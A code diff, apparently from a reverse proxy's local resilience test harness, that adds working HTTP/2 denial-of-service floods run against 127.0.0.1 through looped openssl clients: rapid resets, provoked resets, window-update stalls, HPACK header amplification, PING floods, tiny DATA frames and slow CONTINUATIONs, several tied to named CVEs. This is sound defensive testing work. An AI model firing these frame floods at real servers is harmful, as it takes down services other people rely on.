@@ -208,6 +208,81 @@ def _open_idle(port: int, context: ssl.SSLContext) -> list[int]:
     return files
 
 
+# HTTP/2. Frames as attackers send them: what a library would refuse to.
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
+_ENDED, _OPEN = 5, 4
+"""Flags of HEADERS with a whole head: END_HEADERS, with END_STREAM or without."""
+_GET = b"\x82\x87\x84\x41\x09localhost"
+"""A head in HPACK: GET, https, /, :authority: localhost."""
+_POST = b"\x83" + _GET[1:]
+
+
+def _frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big") + payload
+
+
+def _reset(stream_id: int) -> bytes:
+    return _frame(3, 0, stream_id, b"\0\0\0\x08")
+
+
+async def _flood(proxy: Proxy, frames: Callable[[int], bytes], *, reads: bool = True) -> None:
+    """Have `openssl s_client` send `frames(n)` for n = 1, 3, 5 ..., on one connection after the other."""
+    with tempfile.NamedTemporaryFile() as file:
+        file.write(_PREFACE + b"".join(frames(stream_id) for stream_id in range(1, 40_001, 2)))
+        file.flush()
+        client = f"openssl s_client -quiet -no_ign_eof -connect 127.0.0.1:{proxy.port} -servername localhost -alpn h2"
+        output = ">/dev/null" if reads else "| sleep 60"
+        shell = f"while :; do {client} <{file.name} 2>/dev/null {output}; done"
+        await (await asyncio.create_subprocess_exec("timeout", f"{MIN_DURATION_S:.0f}", "sh", "-c", shell)).wait()
+
+
+async def rapid_resets(proxy: Proxy, context: ssl.SSLContext) -> None:
+    """Requests taken back at once (CVE-2023-44487)."""
+    await _flood(proxy, lambda n: _frame(1, _ENDED, n, _GET) + _reset(n))
+
+
+async def provoked_resets(proxy: Proxy, context: ssl.SSLContext) -> None:
+    """Requests that the proxy is made to take back (CVE-2025-8671)."""
+    await _flood(proxy, lambda n: _frame(1, _ENDED, n, _GET) + _frame(8, 0, n, b"\x7f\xff\xff\xff"))
+
+
+async def window_updates(proxy: Proxy, context: ssl.SSLContext) -> None:
+    """A hundred responses that wait for a window, and windows opened byte by byte."""
+    small_windows = _frame(4, 0, 0, b"\0\4" + bytes(4))
+    await _flood(
+        proxy,
+        lambda n: (
+            (small_windows if n == 1 else b"")
+            + (_frame(1, _ENDED, n, _GET) if n < 200 else _frame(8, 0, 0, b"\0\0\0\1") * 10)
+        ),
+    )
+
+
+async def compressed_heads(proxy: Proxy, context: ssl.SSLContext) -> None:
+    """Heads of 60 KB in 30 bytes, by references to what has been sent before (RFC 7541); for nobody's host."""
+    stored = b"\x40\x01a\x7f" + b"\xbd\x1e" + b"x" * 4028
+    elsewhere = _GET[:3] + b"\x01\x09elsewhere"
+    await _flood(proxy, lambda n: _frame(1, _ENDED, n, elsewhere + (stored if n == 1 else b"\xbe" * 14)))
+
+
+async def pings(proxy: Proxy, context: ssl.SSLContext) -> None:
+    """PINGs whose answers nobody reads (CVE-2019-9512)."""
+    await _flood(proxy, lambda n: _frame(6, 0, 0, bytes(8)) * 10, reads=False)
+
+
+async def tiny_data(proxy: Proxy, context: ssl.SSLContext) -> None:
+    """A request's body, byte by byte, each a frame."""
+    await _flood(proxy, lambda n: _frame(1, _OPEN, 1, _POST) if n == 1 else _frame(0, 0, 1, b"x") * 10)
+
+
+async def slow_heads(proxy: Proxy, context: ssl.SSLContext) -> None:
+    """A CONTINUATION a second, for ever."""
+    context = proxy.client_context()
+    context.set_alpn_protocols(["h2"])
+    await _slow(proxy, context, _PREFACE + _frame(1, 1, 1, _GET), _frame(9, 0, 1, b"\0\1a\1b"))
+
+
 @dataclass(frozen=True)
 class Kind:
     """A kind of abuse: so many attackers at a time."""
@@ -230,6 +305,13 @@ KINDS = {
     "KeyUpdates": Kind(key_updates, 4, on_cpu=True),
     "idle connections": Kind(idle_connections, 1),
     "renegotiations": Kind(renegotiations, 4, on_cpu=True),
+    "rapid resets": Kind(rapid_resets, 4, on_cpu=True),
+    "provoked resets": Kind(provoked_resets, 4, on_cpu=True),
+    "window updates": Kind(window_updates, 4, on_cpu=True),
+    "compressed heads": Kind(compressed_heads, 4, on_cpu=True),
+    "pings": Kind(pings, 4, on_cpu=True),
+    "tiny DATA": Kind(tiny_data, 4, on_cpu=True),
+    "slow CONTINUATIONs": Kind(slow_heads, 300, is_slow=True),
 }
 
 
@@ -273,6 +355,7 @@ async def run(names: list[str], directory: Path) -> bool:
     async with backend(serve) as upstream:
         config = site_config(directory, KEYS, f"127.0.0.1:{upstream.port}")
         config["listeners"][0]["routes"] = [{"host": "localhost", "upstream": "app"}]
+        config["listeners"][0]["http2"] = True
         config["log"]["level"] = "warning"
         async with running_proxy(directory, config) as proxy:
             for name in names:
